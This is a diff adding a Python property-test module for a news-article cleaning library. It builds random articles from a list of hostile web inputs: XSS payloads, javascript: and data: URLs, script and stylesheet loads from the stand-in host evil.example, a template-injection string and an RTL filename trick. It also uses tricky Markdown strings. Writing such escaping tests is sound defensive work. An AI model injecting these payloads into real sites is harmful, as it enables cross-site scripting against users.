@@ -1,0 +1,111 @@
+"""Random articles and texts for the property tests, among them texts that are markup in one language or another."""
+
+from __future__ import annotations
+
+from datetime import timedelta, timezone
+
+from hypothesis import strategies as st
+
+from newsclean.model import Article, Credit, Image, Kind, Paragraph
+
+HOSTILE = (
+    "<script>document.title='hit'</script>",
+    "</div></body><script src=//evil.example/x.js></script>",
+    "<img src=x onerror=\"document.title='hit'\">",
+    '" onmouseover="document.title=\'hit\'" x="',
+    "' style='background:url(javascript:document.title=1)",
+    "<svg onload=document.title='hit'><animate onbegin=alert(1)>",
+    "<iframe srcdoc=\"<script>parent.document.title='hit'</script>\">",
+    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+    "<style>@import'https://evil.example/x.css'</style>",
+    "<base href=//evil.example/><form action=//evil.example/><input autofocus onfocus=alert(1)>",
+    "<!--><script>document.title='hit'</script>-->",
+    "<![CDATA[<script>document.title='hit'</script>]]>",
+    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
+    "&lt;script&gt;document.title='hit'&lt;/script&gt;",
+    "&#60;script&#62;document.title='hit'&#60;/script&#62;",
+    "</style></title></textarea></noscript><script>document.title='hit'</script>",
+    "javascript:document.title='hit'",
+    "JaVaScRiPt:document.title='hit'",
+    "java\tscript:alert(1)",
+    "\x01javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "https://example.org/\"onclick=\"document.title='hit'",
+    "http:javascript:alert(1)",
+    "//evil.example/x",
+    "{{constructor.constructor('alert(1)')()}}",
+    "\u202egnp.exe\u202c",
+)
+"""Texts that run, load or send something where a renderer lets them through as markup."""
+
+MARKDOWN = (
+    "# not a heading",
+    "####### seven",
+    "a heading with a tail ##",
+    "- item",
+    "+ item",
+    "* item",
+    "1. item",
+    "2024) item",
+    "> quote",
+    "---",
+    "===",
+    "***",
+    "~~~",
+    "```",
+    "`code`",
+    "    indented",
+    "\tindented",
+    "[link](https://evil.example/)",
+    "![image](https://evil.example/x.png)",
+    "[x]: https://evil.example/",
+    "<https://evil.example/>",
+    "**bold** __bold__ *em* _em_ ~~gone~~",
+    "snake_case_name",
+    "a\\*b\\",
+    "&amp; &lt;b&gt; &#35; & AT&T",
+    "| a | b |",
+    "|---|---|",
+    "$x^2$ and $5",
+    "line\nbreak  \n# heading\r\n- item\rx\u2028y",
+    "\u3000\u3000全角缩进。",
+)
+"""Texts that Markdown reads as something else than themselves."""
+
+texts = st.text(max_size=40) | st.sampled_from(HOSTILE + MARKDOWN)
+_maybe = st.none() | texts
+_zones = st.integers(-14 * 60, 14 * 60).map(lambda minutes: timezone(timedelta(minutes=minutes)))
+_dates = st.none() | st.datetimes(timezones=st.none() | _zones)
+
+
+def _tuples(items: st.SearchStrategy[object]) -> st.SearchStrategy[tuple[object, ...]]:
+    return st.lists(items, max_size=4).map(tuple)
+
+
+articles = st.builds(
+    Article,
+    title=_maybe,
+    kicker=_maybe,
+    subtitle=_maybe,
+    date=_dates,
+    date_text=_maybe,
+    updated=_dates,
+    source=_maybe,
+    authors=_tuples(texts),
+    credits=_tuples(st.builds(Credit, role=texts, names=_tuples(texts), text=texts, key=texts)),
+    paragraphs=_tuples(st.builds(Paragraph, kind=st.sampled_from(Kind), text=texts, level=st.integers(0, 8))),
+    url=_maybe,
+    site_name=_maybe,
+    language=_maybe,
+    section=_tuples(texts),
+    tags=_tuples(texts),
+    images=_tuples(st.builds(Image, src=texts, alt=texts, block=st.integers(0, 9))),
+    notices=_tuples(st.tuples(texts, texts)),
+    paywalled=st.booleans(),
+    copies=st.integers(1, 5),
+    quality=st.floats(0, 1),
+    is_article=st.booleans(),
+    encoding=_maybe,
+    truncated=_tuples(texts),
+)
